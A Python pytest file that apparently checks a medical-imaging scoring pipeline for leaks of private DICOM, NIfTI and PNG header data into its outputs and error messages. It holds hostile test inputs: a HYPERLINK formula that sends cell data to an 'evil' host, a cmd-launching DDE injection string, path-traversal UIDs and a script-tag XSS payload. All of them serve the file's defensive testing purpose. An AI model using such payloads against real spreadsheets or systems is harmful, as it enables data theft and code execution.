"""What hostile or private headers leave behind in tables, maps, summaries and on the terminal: nothing."""

import gzip
from pathlib import Path

import nibabel as nib
import pandas as pd
import pydicom
import pytest
from PIL import Image
from PIL.PngImagePlugin import PngInfo
from pydicom.data import get_testdata_file
from pydicom.datadict import dictionary_VR

from pipeline import score
from pipeline.console import DONE, FAULT, WITH_REJECTIONS
from pipeline.model.package import Model
from pipeline.scoring import local
from tests.scoring.scenes import CANARY, run_here, save_nifti, save_series, save_tiny_model

TAGS = (
    *("PatientName", "PatientID", "PatientBirthDate", "PatientSex", "PatientAge", "PatientAddress", "PatientComments"),
    *("OtherPatientIDs", "OtherPatientNames", "PatientTelephoneNumbers", "EthnicGroup", "Occupation", "PatientWeight"),
    *("AccessionNumber", "StudyID", "StudyDate", "StudyTime", "StudyDescription", "SeriesDate", "SeriesDescription"),
    *("AcquisitionDate", "ContentDate", "ReferringPhysicianName", "PerformingPhysicianName", "OperatorsName"),
    *("PhysiciansOfRecord", "NameOfPhysiciansReadingStudy", "RequestingPhysician", "InstitutionName", "StationName"),
    *("InstitutionAddress", "InstitutionalDepartmentName", "ProtocolName", "DeviceSerialNumber", "ImageComments"),
    *("AdmittingDiagnosesDescription", "RequestedProcedureDescription", "AdditionalPatientHistory", "MedicalAlerts"),
    *("Allergies", "PerformedProcedureStepDescription", "BodyPartExamined", "Manufacturer", "ManufacturerModelName"),
)
DATES = {"DA": "19010203", "TM": "030201", "AS": "099Y", "DS": "77.125", "CS": CANARY.upper()}
"""What stands for the canary where a header can't hold letters."""
FORMULA = '=HYPERLINK("http://evil/"&A1)'


def canary_of(keyword: str) -> str:
    return DATES.get(dictionary_VR(keyword), CANARY)


def tagged(folder: Path, text: str | None = None, **tags: str) -> Path:
    """A CT series with the canary (or a text) in every tag of TAGS."""
    save_series(folder)
    for file in folder.iterdir():
        with pydicom.config.disable_value_validation():
            ds = pydicom.dcmread(file)
            for keyword in TAGS:
                free = dictionary_VR(keyword) in ("LO", "PN", "SH")
                setattr(ds, keyword, text if text and free else canary_of(keyword))
            for keyword, value in tags.items():
                setattr(ds, keyword, value)
            ds.save_as(file)
    return folder


def private_scans(folder: Path) -> Path:
    """DICOM, NIfTI and PNG with canaries in what they can say, good ones and ones that are refused."""
    tagged(folder / "good")
    tagged(folder / "torn")
    torn = folder / "torn" / "1.dcm"
    torn.write_bytes(torn.read_bytes()[:-2000])
    save_nifti(folder / "a.nii", 1)
    image = nib.load(folder / "a.nii")
    for key in ("descrip", "db_name", "aux_file", "intent_name"):
        image.header[key] = CANARY
    nib.save(image, folder / "b.nii")
    text = PngInfo()
    text.add_text("Patient", CANARY)
    Image.new("L", (40, 30), 7).save(folder / "c.png", pnginfo=text)
    (folder / "letter.dcm").write_text(f"Dear {CANARY}")
    mr = pydicom.dcmread(str(get_testdata_file("MR_small.dcm")))
    mr.PatientName = mr.PatientID = CANARY
    mr.save_as(folder / "mr.dcm")
    return folder


def everything_in(out: Path) -> str:
    """The content of every file, unpacked, and every name."""
    parts = []
    for path in (one for one in out.rglob("*") if one.is_file()):
        content = path.read_bytes()
        content = gzip.decompress(content) if path.suffix == ".gz" else content
        parts += [path.name, content.decode("latin-1")]
        if path.suffix == ".parquet":
            parts.append(pd.read_parquet(path).to_csv())
    return "\n".join(parts)


@pytest.fixture(scope="module")
def model(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return save_tiny_model(tmp_path_factory.mktemp("model") / "m", unit="patient")


@pytest.fixture(autouse=True)
def here(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(local, "run_isolated", run_here)


def words(model: Path, root: Path, *more: str) -> list[str]:
    return [*map(str, (model, root / "in", "--out", root / "out")), *more]


def test_no_canary_of_40_tags_is_left_anywhere(model: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert len(TAGS) >= 40
    private_scans(tmp_path / "in")
    assert score.main(words(model, tmp_path, "--saliency")) == WITH_REJECTIONS
    said = capsys.readouterr()
    found = everything_in(tmp_path / "out") + said.out + said.err
    for canary in {canary_of(keyword) for keyword in TAGS}:
        assert canary not in found, canary
    assert (tmp_path / "out" / "patients.csv").is_file()


def test_a_fault_shows_no_canary(
    model: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    private_scans(tmp_path / "in")

    def fault(*_: object) -> None:
        raise KeyError(CANARY)

    monkeypatch.setattr(Model, "predict_inputs", fault)
    assert score.main(words(model, tmp_path)) == FAULT
    said = capsys.readouterr()
    assert "KeyError" in said.err
    assert CANARY not in said.out + said.err + everything_in(tmp_path / "out")


def test_no_cell_is_a_formula_and_numbers_stay_numbers(model: Path, tmp_path: Path) -> None:
    tagged(tmp_path / "in" / "=1+1", FORMULA, StudyInstanceUID="1.2.3")
    tagged(tmp_path / "in" / "@x", "-2+3+cmd|' /C calc'!A0", StudyInstanceUID="1.2.4", SeriesInstanceUID="1.2.5",
           SOPInstanceUID="1.2.6")  # fmt: skip
    assert score.main(words(model, tmp_path, "--include-ids")) in (DONE, WITH_REJECTIONS)
    for name in ("predictions.csv", "patients.csv"):
        table = pd.read_csv(tmp_path / "out" / name, dtype=str, keep_default_na=False)
        text = table.drop(columns=[c for c in table.columns if c.startswith("p_") or c == "spread"])
        assert not text.map(lambda cell: cell.startswith(("=", "+", "-", "@", "\t", "\r"))).any(axis=None)
        assert f"'{FORMULA}" in table["patient_id"].tolist()
        assert pd.to_numeric(table["p_nodule"]).notna().any()


@pytest.mark.parametrize("uid", ["../../x", "/etc/x", "1.2\\..\\x", "<script>alert(1)</script>", "1" * 300])
def test_numbers_that_are_paths_or_markup_lead_nowhere(model: Path, tmp_path: Path, uid: str) -> None:
    tagged(tmp_path / "in" / "a", SeriesInstanceUID=uid, StudyInstanceUID=uid, PatientID=uid)
    before = {path for path in tmp_path.rglob("*") if path.is_file()}
    assert score.main(words(model, tmp_path, "--saliency")) in (DONE, WITH_REJECTIONS)
    made = {path for path in tmp_path.rglob("*") if path.is_file()} - before
    assert all(path.is_relative_to(tmp_path / "out") for path in made)
    assert all(set(path.name) <= set("abcdefghijklmnopqrstuvwxyz0123456789_.") for path in made)
    assert uid[:200] not in everything_in(tmp_path / "out")
